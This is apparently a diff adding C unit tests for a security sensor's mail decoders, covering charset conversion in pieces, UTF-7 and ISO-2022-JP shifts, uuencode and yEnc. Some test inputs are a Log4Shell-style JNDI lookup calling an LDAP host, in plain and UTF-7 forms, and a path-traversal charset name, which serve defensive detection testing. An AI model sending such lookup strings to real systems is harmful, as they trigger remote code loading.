@@ -1,0 +1,154 @@
+/* Tests of what only mails need: charsets in pieces, uuencode, yEnc. */
+#include "sensor/codec/charset_stream.h"
+#include "sensor/codec/uuencode.h"
+#include "sensor/codec/yenc.h"
+#include "tests/unit/runner.h"
+
+/* Converts `in` in pieces of `step` bytes. */
+static void convert(const char *charset, struct span in, size_t step, struct sbuf *out)
+{
+    struct charset_stream c;
+    if (charset != NULL) {
+        CU_ASSERT(charset_stream_open(&c, span_str(charset)));
+    } else {
+        charset_stream_sniff(&c);
+    }
+    for (size_t off = 0; off < in.len; off += step) {
+        charset_stream_add(&c, span_sub(in, off, step), out);
+    }
+    charset_stream_finish(&c, out);
+    charset_stream_close(&c);
+}
+
+/* At every size of pieces the result is `want`. */
+static void expect(const char *charset, struct span in, struct span want)
+{
+    for (size_t step = 1; step <= in.len; step++) {
+        struct sbuf out = sbuf_with_cap(1000);
+        convert(charset, in, step, &out);
+        CU_ASSERT(span_equal(sbuf_span(&out), want));
+        sbuf_free(&out);
+    }
+}
+
+static void utf_16_goes_by_its_mark_or_its_zeros(void)
+{
+    expect("UTF-16", SPAN("\xff\xfe$\0{\0"), SPAN("${"));
+    expect("utf-16", SPAN("\xfe\xff\0$\0{"), SPAN("${"));
+    expect("utf-16", SPAN("$\0{\0"), SPAN("${"));
+    expect("utf-16", SPAN("\0$\0{"), SPAN("${"));
+    expect("utf-16be", SPAN("\0$\0{\xd8"), SPAN("${"));
+    expect("utf-16le", SPAN("\x3d\xd8\x00\xde$\0"), SPAN("\xf0\x9f\x98\x80$"));
+    expect("utf-32le", SPAN("$\0\0\0{\0\0\0"), SPAN("${"));
+}
+
+static void what_is_no_utf_16_stays(void)
+{
+    expect("utf-16", SPAN("${jndi:ldap://203.0.113.9/a} and more"),
+           SPAN("${jndi:ldap://203.0.113.9/a} and more"));
+    expect("utf-16le", SPAN("${jndi}"), SPAN("${jndi}"));
+    expect("utf-16", SPAN("x"), SPAN("x"));
+}
+
+static void a_bad_character_is_replaced_and_the_next_one_read(void)
+{
+    expect("utf-16le", SPAN("$\0\x00\xdc{\0"), SPAN("$\xef\xbf\xbd{"));
+    expect("iso-2022-jp",
+           SPAN("a\xff"
+                "b"),
+           SPAN("a\xef\xbf\xbd"
+                "b"));
+}
+
+static void shifts_are_kept_between_pieces(void)
+{
+    expect("utf-7", SPAN("+ACQAew-jndi+AH0-"), SPAN("${jndi}"));
+    expect("iso-2022-jp", SPAN("\x1b$B$3$s\x1b(B${"), SPAN("\xe3\x81\x93\xe3\x82\x93${"));
+}
+
+static void unknown_charsets_count_only_with_a_mark(void)
+{
+    expect(NULL, SPAN("\xff\xfe$\0{\0"), SPAN("${"));
+    expect(NULL, SPAN("$\0{\0"), SPAN("$\0{\0"));
+    expect(NULL, SPAN("$"), SPAN("$"));
+    struct charset_stream c;
+    CU_ASSERT_FALSE(charset_stream_open(&c, SPAN("utf-8")));
+    CU_ASSERT_FALSE(charset_stream_open(&c, SPAN("../../x")));
+    CU_ASSERT_FALSE(charset_stream_open(&c, SPAN("")));
+}
+
+static void behind_a_gap_the_zeros_tell_again(void)
+{
+    struct sbuf out = sbuf_with_cap(1000);
+    struct charset_stream c;
+    CU_ASSERT(charset_stream_open(&c, SPAN("utf-16le")));
+    charset_stream_add(&c, SPAN("a\0b\0c"), &out);
+    charset_stream_gap(&c, &out);
+    charset_stream_add(&c, SPAN("\0d\0e"), &out); /* "?\0" "d\0" would be the other reading */
+    charset_stream_finish(&c, &out);
+    CU_ASSERT(span_equal(sbuf_span(&out), SPAN("abde")));
+    charset_stream_close(&c);
+    sbuf_free(&out);
+}
+
+static void uuencoded_lines_are_told_from_text(void)
+{
+    struct sbuf out = sbuf_with_cap(100);
+    struct span name;
+    CU_ASSERT(uuencode_begins(SPAN("begin 644 a b.txt "), &name));
+    CU_ASSERT(span_equal(name, SPAN("a b.txt")));
+    CU_ASSERT_FALSE(uuencode_begins(SPAN("begin 64 a"), &name));
+    CU_ASSERT_FALSE(uuencode_begins(SPAN("begin 648 a"), &name));
+    CU_ASSERT_FALSE(uuencode_begins(SPAN("begin 644 "), &name));
+    CU_ASSERT(uuencode_line(SPAN("#0V%T"), &out));
+    CU_ASSERT(uuencode_line(SPAN("\"2$D"), &out)); /* a blank left out at the end */
+    CU_ASSERT(uuencode_line(SPAN("`"), &out));
+    CU_ASSERT_FALSE(uuencode_line(SPAN("end"), &out));
+    CU_ASSERT_FALSE(uuencode_line(SPAN("#0V%TABC"), &out)); /* longer than it says */
+    CU_ASSERT_FALSE(uuencode_line(SPAN("${jndi}"), &out));
+    CU_ASSERT_FALSE(uuencode_line(SPAN(""), &out));
+    CU_ASSERT(span_equal(sbuf_span(&out), SPAN("CatHI")));
+    sbuf_free(&out);
+}
+
+static void yenc_undoes_both_shifts(void)
+{
+    struct sbuf out = sbuf_with_cap(100);
+    struct span name;
+    CU_ASSERT(yenc_begins(SPAN("=ybegin line=128 size=3 name=x y.bin"), &name));
+    CU_ASSERT(span_equal(name, SPAN("x y.bin")));
+    CU_ASSERT_FALSE(yenc_begins(SPAN("=ybegin line=128 name=x"), &name));
+    CU_ASSERT_FALSE(yenc_begins(SPAN("=ybegin size=1 name="), &name));
+    yenc_line(SPAN("=ypart begin=1 end=3"), &out);
+    yenc_line(SPAN("N=\x8e\x29="), &out);
+    CU_ASSERT(yenc_ends(SPAN("=yend size=3")));
+    CU_ASSERT(span_equal(sbuf_span(&out), SPAN("$$\xff")));
+    sbuf_free(&out);
+}
+
+static CU_TestInfo charset_tests[] = {
+    {"utf_16_goes_by_its_mark_or_its_zeros", utf_16_goes_by_its_mark_or_its_zeros},
+    {"what_is_no_utf_16_stays", what_is_no_utf_16_stays},
+    {"a_bad_character_is_replaced_and_the_next_one_read",
+     a_bad_character_is_replaced_and_the_next_one_read},
+    {"shifts_are_kept_between_pieces", shifts_are_kept_between_pieces},
+    {"unknown_charsets_count_only_with_a_mark", unknown_charsets_count_only_with_a_mark},
+    {"behind_a_gap_the_zeros_tell_again", behind_a_gap_the_zeros_tell_again},
+    CU_TEST_INFO_NULL,
+};
+
+static CU_TestInfo file_tests[] = {
+    {"uuencoded_lines_are_told_from_text", uuencoded_lines_are_told_from_text},
+    {"yenc_undoes_both_shifts", yenc_undoes_both_shifts},
+    CU_TEST_INFO_NULL,
+};
+
+int main(void)
+{
+    CU_SuiteInfo suites[] = {
+        {"charsets in pieces", NULL, NULL, NULL, NULL, charset_tests},
+        {"files in text", NULL, NULL, NULL, NULL, file_tests},
+        CU_SUITE_INFO_NULL,
+    };
+    return run_suites(suites);
+}
